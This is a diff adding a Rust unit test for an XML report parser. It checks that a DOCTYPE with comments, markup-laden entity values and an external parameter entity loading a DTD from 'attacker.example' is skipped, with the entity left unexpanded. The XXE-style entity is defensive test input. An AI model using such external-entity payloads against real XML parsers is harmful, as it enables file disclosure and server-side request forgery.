@@ -688,3 +688,18 @@ fn sink_error_stops_parsing() {
     assert!(matches!(result, Err(ReportError::Sink(_))));
     assert_eq!(calls, 1);
 }
+
+#[test]
+fn dtd_with_markup_inside_entity_values_and_comments_is_skipped() {
+    let dtd = "<!DOCTYPE feedback [\n<!-- a comment with > and ] -->\n\
+        <!ENTITY gt2 \"a > b ]\">\n<!ENTITY % pe SYSTEM \"http://attacker.example/x.dtd\">\n%pe;\n]>";
+    let xml = report(RECORD)
+        .replace(
+            "<?xml version=\"1.0\"?>",
+            &format!("<?xml version=\"1.0\"?>{dtd}"),
+        )
+        .replace("Example Org", "&gt2;");
+    let p = parse(xml);
+    assert_eq!(p.ok().records, 1);
+    assert_eq!(p.meta().org_name, "&gt2;");
+}
